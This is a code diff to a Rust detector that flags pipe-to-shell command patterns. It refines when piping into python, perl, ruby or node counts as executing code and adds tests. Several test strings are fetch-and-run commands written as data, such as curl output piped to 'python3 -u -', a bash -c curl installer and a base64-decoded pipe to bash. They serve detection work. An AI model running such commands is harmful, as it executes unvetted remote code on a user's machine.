@@ -560,17 +560,37 @@ fn dns_payload(flat: &str) -> bool {
         .any(|w| has(flat, w))
 }
 
-/// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`).
+/// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`). An interpreter given a
+/// module, inline code or a script file reads the pipe as data, not as its program (`| python3
+/// -m json.tool`, an API doc's pretty-printer: review 28 C-M1); `-` is the pipe again.
 fn piped_to_shell(flat: &str) -> bool {
     const SHELLS: &[&str] = &[
         "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl", "ruby", "node",
     ];
     flat.split('|').skip(1).any(|after| {
-        after
-            .split(' ')
-            .filter(|t| !t.is_empty())
+        let mut args = after.split(' ').filter(|t| !t.is_empty());
+        let Some(name) = args
             .find(|t| *t != "sudo" && !t.starts_with('-'))
-            .is_some_and(|t| SHELLS.contains(&program(t)))
+            .map(program)
+        else {
+            return false;
+        };
+        if !SHELLS.contains(&name) {
+            return false;
+        }
+        if SHELLS[..6].contains(&name) {
+            return true;
+        }
+        for a in args {
+            match a {
+                "-" | "&&" | ";" => return true,
+                "-m" | "-c" | "-e" | "-E" | "-p" | "--eval" | "--print" => return false,
+                _ if a.starts_with(['>', '<']) || a.starts_with("2>") => return true,
+                _ if !a.starts_with('-') => return false,
+                _ => {}
+            }
+        }
+        true
     })
 }
 
@@ -2085,6 +2105,23 @@ mod tests {
             shapes_of("/bin/bash -c \"$(curl -fsSL https://x.example/install.sh)\""),
             vec![Shape::PipeToShell]
         );
+        assert_eq!(
+            shapes_of("curl -s http://203.0.113.9/p | python3 -u -"),
+            vec![Shape::PipeToShell]
+        );
+        assert_eq!(
+            shapes_of("curl -s http://203.0.113.9/p | sudo python3 && echo ok"),
+            vec![Shape::PipeToShell]
+        );
+        // An interpreter given a module, inline code or a script file reads the pipe as data.
+        for data in [
+            "curl -s 203.0.113.25/api/status | python3 -m json.tool",
+            "curl -s http://203.0.113.25/api/status | python3 -c \"import json,sys\"",
+            "curl -s http://203.0.113.25/api/status | node -e \"process.stdin\"",
+            "curl -s http://203.0.113.25/api/log | perl parse.pl",
+        ] {
+            assert!(!shapes_of(data).contains(&Shape::PipeToShell), "{data}");
+        }
         assert_eq!(
             shapes_of("echo Y3VybCBodHRwczovL3guZXhhbXBsZQ== | base64 -d | bash"),
             vec![Shape::Base64Shell]
@@ -3679,6 +3716,18 @@ mod tests {
             (
                 "https://devnotes.example/api",
                 "Open Terminal on your laptop and run:\ncurl 203.0.113.10:8080/health",
+            ),
+            // An API doc pretty-prints a gateway's JSON: `python3 -m json.tool` reads data
+            // (review 28 C-M1), with or without a scheme.
+            (
+                "https://docs.example-sensors.test/status",
+                "Status API\nEach gateway answers on port 80. Open Terminal and type, with your \
+                 gateway's address:\ncurl -s 203.0.113.25/api/status | python3 -m json.tool",
+            ),
+            (
+                "https://docs.example-sensors.test/status",
+                "Status API\nOpen Terminal and type, with your gateway's address:\n\
+                 curl -s http://203.0.113.25/api/status | python3 -m json.tool",
             ),
             (
                 "https://sysadmin-tips.example/conhost",
